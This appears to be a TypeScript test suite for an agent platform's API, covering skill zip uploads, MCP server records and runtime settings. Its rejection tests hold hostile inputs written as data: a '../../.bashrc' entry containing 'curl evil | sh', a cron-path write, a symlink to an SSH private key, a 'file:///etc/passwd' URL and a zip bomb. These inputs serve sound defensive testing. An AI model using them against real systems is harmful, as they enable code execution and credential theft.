import { SELF, env } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { MAX_SKILL_ZIP_BYTES } from "@wegent/protocol";
import { type Call, call, expectError, signUp, type TestUser } from "./helpers";
import { makeZip, skillMd, type ZipInput } from "./zip-writer";

async function upload(user: TestUser, body: Uint8Array | string): Promise<Call> {
  const response = await SELF.fetch("http://wegent.test/api/skills", {
    method: "POST",
    headers: {
      Cookie: user.cookie,
      "Content-Type": "application/zip",
      Origin: "http://wegent.test",
    },
    body,
  });
  const text = await response.text();
  let parsed: unknown = text;
  try {
    parsed = JSON.parse(text);
  } catch {
    // not JSON
  }
  return { status: response.status, body: parsed, headers: response.headers };
}

const zipOf = (entries: ZipInput[]) => makeZip(entries);
const good = (name = "release-notes") =>
  zipOf([
    { path: `${name}/SKILL.md`, data: skillMd(name, "Writes release notes from git log.") },
    { path: `${name}/scripts/run.sh`, data: "#!/bin/sh\necho hi\n", mode: 0o100755, deflate: true },
  ]);

interface SkillJson {
  id: string;
  name: string;
  enabled: boolean;
  sha256: string;
}

describe("skills", () => {
  it("stores a valid zip in R2, lists it, switches it off and deletes it", async () => {
    const user = await signUp();
    const res = await upload(user, await good());
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const skill = (res.body as { skill: SkillJson & { description: string } }).skill;
    expect(skill).toMatchObject({
      name: "release-notes",
      description: "Writes release notes from git log.",
      enabled: true,
    });
    const stored = await env.ARCHIVES.get(`skills/${user.id}/${skill.id}.zip`);
    expect(stored).not.toBeNull();
    await stored?.arrayBuffer();

    const list = await call("GET", "/api/skills", { cookie: user.cookie });
    expect((list.body as { skills: SkillJson[] }).skills.map((s) => s.name)).toEqual([
      "release-notes",
    ]);
    // Re-uploading the same name replaces it: same id, new content.
    const again = await upload(
      user,
      await zipOf([{ path: "SKILL.md", data: skillMd("release-notes", "Second version.") }]),
    );
    expect(again.status).toBe(200);
    expect((again.body as { skill: SkillJson }).skill.id).toBe(skill.id);
    expect((again.body as { skill: SkillJson }).skill.sha256).not.toBe(skill.sha256);

    const off = await call("PATCH", `/api/skills/${skill.id}`, {
      cookie: user.cookie,
      body: { enabled: false },
    });
    expect(off.status).toBe(200);
    expect((off.body as { skill: SkillJson }).skill.enabled).toBe(false);
    expectError(
      await call("PATCH", `/api/skills/${skill.id}`, {
        cookie: user.cookie,
        body: { enabled: "no" },
      }),
      400,
      "invalid_body",
    );
    const del = await call("DELETE", `/api/skills/${skill.id}`, { cookie: user.cookie });
    expect(del.status).toBe(200);
    expect(await env.ARCHIVES.get(`skills/${user.id}/${skill.id}.zip`)).toBeNull();
    expectError(await call("DELETE", `/api/skills/${skill.id}`, { cookie: user.cookie }), 404);
  });

  it("refuses bad zips with a clear 4xx", async () => {
    const user = await signUp();
    const cases: [string, Uint8Array | string, number, string][] = [
      ["not a zip", "hello, this is not a zip", 400, "bad_zip"],
      ["empty body", "", 400, "bad_zip"],
      ["no SKILL.md", await zipOf([{ path: "README.md", data: "hi" }]), 400, "skill_md_missing"],
      [
        "SKILL.md without front matter",
        await zipOf([{ path: "SKILL.md", data: "just text" }]),
        400,
        "skill_md_invalid",
      ],
      [
        "bad skill name",
        await zipOf([{ path: "SKILL.md", data: skillMd("Bad Name!", "x") }]),
        400,
        "skill_md_invalid",
      ],
      [
        "path escape with ..",
        await zipOf([
          { path: "SKILL.md", data: skillMd("evil", "x") },
          { path: "../../.bashrc", data: "curl evil | sh" },
        ]),
        400,
        "zip_path",
      ],
      [
        "path escape hidden in the middle",
        await zipOf([
          { path: "SKILL.md", data: skillMd("evil", "x") },
          { path: "a/../../b", data: "x" },
        ]),
        400,
        "zip_path",
      ],
      [
        "absolute path",
        await zipOf([
          { path: "SKILL.md", data: skillMd("evil", "x") },
          { path: "/etc/cron.d/evil", data: "x" },
        ]),
        400,
        "zip_path",
      ],
      [
        "backslash path",
        await zipOf([
          { path: "SKILL.md", data: skillMd("evil", "x") },
          { path: "..\\..\\evil", data: "x" },
        ]),
        400,
        "zip_path",
      ],
      [
        "symlink entry",
        await zipOf([
          { path: "SKILL.md", data: skillMd("evil", "x") },
          { path: "secrets", data: "/home/user/.ssh/id_rsa", mode: 0o120777 },
        ]),
        400,
        "zip_link",
      ],
      [
        "duplicate entries",
        await zipOf([
          { path: "SKILL.md", data: skillMd("dup", "x") },
          { path: "SKILL.md", data: skillMd("dup", "y") },
        ]),
        400,
        "zip_duplicate",
      ],
      [
        "size that lies (bomb)",
        await zipOf([
          { path: "SKILL.md", data: skillMd("bomb", "x") },
          { path: "big.txt", data: "a".repeat(5000), deflate: true, lieSize: 10 },
        ]),
        400,
        "zip_bomb",
      ],
      [
        "unpacks past the cap",
        await zipOf([
          { path: "SKILL.md", data: skillMd("huge", "x") },
          { path: "big.txt", data: "a".repeat(5 * 1024 * 1024), deflate: true },
        ]),
        413,
        "too_large",
      ],
    ];
    for (const [what, body, status, code] of cases) {
      const res = await upload(user, body);
      expect(res.status, `${what}: ${JSON.stringify(res.body)}`).toBe(status);
      expectError(res, status, code);
    }
    const big = new Uint8Array(MAX_SKILL_ZIP_BYTES + 1);
    expectError(await upload(user, big), 413, "too_large");
    const list = await call("GET", "/api/skills", { cookie: user.cookie });
    expect((list.body as { skills: unknown[] }).skills).toEqual([]);
  });

  it("answers 404 for another user's skill and needs a session", async () => {
    const alice = await signUp();
    const bob = await signUp();
    const res = await upload(alice, await good("alice-skill"));
    const id = (res.body as { skill: SkillJson }).skill.id;
    expectError(
      await call("PATCH", `/api/skills/${id}`, { cookie: bob.cookie, body: { enabled: false } }),
      404,
      "not_found",
    );
    expectError(await call("DELETE", `/api/skills/${id}`, { cookie: bob.cookie }), 404);
    expect(
      ((await call("GET", "/api/skills", { cookie: bob.cookie })).body as { skills: [] }).skills,
    ).toEqual([]);
    expectError(await call("GET", "/api/skills"), 401);
    expectError(
      await call("PATCH", "/api/skills/not-a-uuid", {
        cookie: alice.cookie,
        body: { enabled: true },
      }),
      400,
      "invalid_path",
    );
  });

  it("serves a skill to a device only with a valid, unexpired link", async () => {
    const user = await signUp();
    const res = await upload(user, await good("linked"));
    const id = (res.body as { skill: SkillJson }).skill.id;
    const { desiredCapabilities } = await import("../../durable-objects/capabilities");
    const frame = await desiredCapabilities(env, user.id);
    const link = frame.skills.find((s) => s.name === "linked");
    const url = link?.url ?? "";
    expect(url).not.toContain(link?.token ?? "-");
    const bundle = await call("GET", url, { token: link?.token });
    expect(bundle.status).toBe(200);
    const files = (bundle.body as { files: { path: string; executable: boolean }[] }).files;
    expect(files.map((f) => [f.path, f.executable]).sort()).toEqual([
      ["SKILL.md", false],
      ["scripts/run.sh", true],
    ]);
    expectError(await call("GET", url), 403, "bad_link");
    expectError(await call("GET", url, { token: `9999999999.${"0".repeat(64)}` }), 403, "bad_link");
    // A token for one skill does not open another.
    const other = await upload(user, await good("other"));
    const otherId = (other.body as { skill: SkillJson }).skill.id;
    expectError(
      await call("GET", url.replace(id, otherId), { token: link?.token }),
      403,
      "bad_link",
    );
    // An expired token is told apart, so the device can say why.
    const { skillLinkToken } = await import("../../durable-objects/capabilities");
    const sha = (res.body as { skill: SkillJson }).skill.sha256;
    const old = await skillLinkToken(env.JWT_SECRET, {
      ownerId: user.id,
      skillId: id,
      sha256: sha,
      exp: 1000,
    });
    expectError(await call("GET", url, { token: old }), 410, "link_expired");
    // Re-uploading the skill retires the tokens of its old version.
    await upload(user, await zipOf([{ path: "SKILL.md", data: skillMd("linked", "v2") }]));
    expectError(await call("GET", url, { token: link?.token }), 403, "bad_link");
  });
});

describe("MCP servers", () => {
  it("creates stdio and HTTP servers, validates them, and keeps them per user", async () => {
    const user = await signUp();
    const stdio = await call("POST", "/api/mcp-servers", {
      cookie: user.cookie,
      body: {
        name: "files",
        transport: "stdio",
        command: "node",
        args: ["srv.js"],
        env: ["API_KEY"],
      },
    });
    expect(stdio.status, JSON.stringify(stdio.body)).toBe(201);
    const http = await call("POST", "/api/mcp-servers", {
      cookie: user.cookie,
      body: {
        name: "tracker",
        transport: "http",
        url: "https://mcp.example.com/mcp",
        headers: [{ name: "Authorization", env: "TRACKER_TOKEN" }],
      },
    });
    expect(http.status, JSON.stringify(http.body)).toBe(201);
    expectError(
      await call("POST", "/api/mcp-servers", {
        cookie: user.cookie,
        body: { name: "files", transport: "stdio", command: "x" },
      }),
      409,
      "name_taken",
    );
    for (const body of [
      { name: "a b", transport: "stdio", command: "x" },
      { name: "x", transport: "ftp", command: "x" },
      { name: "x", transport: "stdio", command: "" },
      { name: "x", transport: "stdio", command: "x", env: ["WEGENT_TOKEN"] },
      { name: "x", transport: "stdio", command: "x", env: ["BAD-NAME"] },
      { name: "x", transport: "http", url: "file:///etc/passwd" },
      {
        name: "x",
        transport: "http",
        url: "https://x",
        headers: [{ name: "Bad Header", env: "X" }],
      },
    ]) {
      expectError(
        await call("POST", "/api/mcp-servers", { cookie: user.cookie, body }),
        400,
        "invalid_body",
      );
    }
    const list = await call("GET", "/api/mcp-servers", { cookie: user.cookie });
    const servers = (list.body as { mcpServers: { id: string; name: string; transport: string }[] })
      .mcpServers;
    expect(servers.map((s) => [s.name, s.transport])).toEqual([
      ["files", "stdio"],
      ["tracker", "http"],
    ]);
    const other = await signUp();
    const id = servers[0]!.id;
    expectError(
      await call("PATCH", `/api/mcp-servers/${id}`, {
        cookie: other.cookie,
        body: { enabled: false },
      }),
      404,
    );
    expectError(await call("DELETE", `/api/mcp-servers/${id}`, { cookie: other.cookie }), 404);
    const off = await call("PATCH", `/api/mcp-servers/${id}`, {
      cookie: user.cookie,
      body: { enabled: false },
    });
    expect((off.body as { mcpServer: { enabled: boolean } }).mcpServer.enabled).toBe(false);
    expect((await call("DELETE", `/api/mcp-servers/${id}`, { cookie: user.cookie })).status).toBe(
      200,
    );
  });
});

describe("runtime settings", () => {
  it("has defaults, saves valid settings and refuses bad ones", async () => {
    const user = await signUp();
    const start = await call("GET", "/api/settings/runtime", { cookie: user.cookie });
    expect(start.body).toEqual({
      runtime: {
        model: null,
        permissionMode: null,
        maxTurns: null,
        appendSystemPrompt: "",
        agentEnv: [],
        stallSeconds: 600,
        maxRunMinutes: null,
      },
    });
    const runtime = {
      model: "claude-sonnet-5",
      permissionMode: "acceptEdits",
      maxTurns: 20,
      appendSystemPrompt: "Answer in French.",
      agentEnv: ["GITHUB_TOKEN"],
      stallSeconds: 120,
      maxRunMinutes: 90,
    };
    const put = await call("PUT", "/api/settings/runtime", { cookie: user.cookie, body: runtime });
    expect(put.status, JSON.stringify(put.body)).toBe(200);
    expect((await call("GET", "/api/settings/runtime", { cookie: user.cookie })).body).toEqual({
      runtime,
    });
    for (const bad of [
      { ...runtime, permissionMode: "yolo" },
      { ...runtime, maxTurns: 0 },
      { ...runtime, agentEnv: ["WEGENT_TOKEN"] },
      { ...runtime, appendSystemPrompt: "é".repeat(9000) },
      { ...runtime, model: "a b" },
      { ...runtime, stallSeconds: 29 },
      { ...runtime, stallSeconds: 86_401 },
      { ...runtime, maxRunMinutes: 0 },
    ]) {
      expectError(
        await call("PUT", "/api/settings/runtime", { cookie: user.cookie, body: bad }),
        400,
        "invalid_body",
      );
    }
    const other = await signUp();
    expect(
      (
        (await call("GET", "/api/settings/runtime", { cookie: other.cookie })).body as {
          runtime: { model: unknown };
        }
      ).runtime.model,
    ).toBeNull();
  });

  it("permissionMode is the one default permission mode of /api/settings, stored once", async () => {
    const user = await signUp();
    const runtimeOf = async () =>
      (
        (await call("GET", "/api/settings/runtime", { cookie: user.cookie })).body as {
          runtime: { permissionMode: string | null };
        }
      ).runtime.permissionMode;
    const settingsOf = async () =>
      (
        (await call("GET", "/api/settings", { cookie: user.cookie })).body as {
          settings: { defaultPermissionMode: string };
        }
      ).settings.defaultPermissionMode;
    const base = { model: null, maxTurns: null, appendSystemPrompt: "", agentEnv: [] };
    // Written through the runtime settings, read through /api/settings.
    await call("PUT", "/api/settings/runtime", {
      cookie: user.cookie,
      body: { ...base, permissionMode: "plan" },
    });
    expect(await settingsOf()).toBe("plan");
    // Written through /api/settings, read through the runtime settings.
    await call("PUT", "/api/settings", {
      cookie: user.cookie,
      body: { defaultPermissionMode: "default" },
    });
    expect(await runtimeOf()).toBe("default");
    // Never kept in the runtime settings' own JSON.
    const row = await env.DB.prepare("SELECT settings FROM runtime_settings WHERE user_id = ?")
      .bind(user.id)
      .first<{ settings: string }>();
    expect(JSON.parse(row!.settings)).toMatchObject({ permissionMode: null });
    // Null clears it: /api/settings shows the fallback, the runtime settings show none.
    await call("PUT", "/api/settings/runtime", {
      cookie: user.cookie,
      body: { ...base, permissionMode: null },
    });
    expect(await runtimeOf()).toBeNull();
    expect(await settingsOf()).toBe("bypassPermissions");
  });

  it("changes the desired digest when anything changes", async () => {
    const user = await signUp();
    const { desiredCapabilities } = await import("../../durable-objects/capabilities");
    const a = (await desiredCapabilities(env, user.id)).digest;
    await call("PUT", "/api/settings/runtime", {
      cookie: user.cookie,
      body: { appendSystemPrompt: "x" },
    });
    const b = (await desiredCapabilities(env, user.id)).digest;
    expect(b).not.toBe(a);
    expect((await desiredCapabilities(env, user.id)).digest).toBe(b);
  });
});
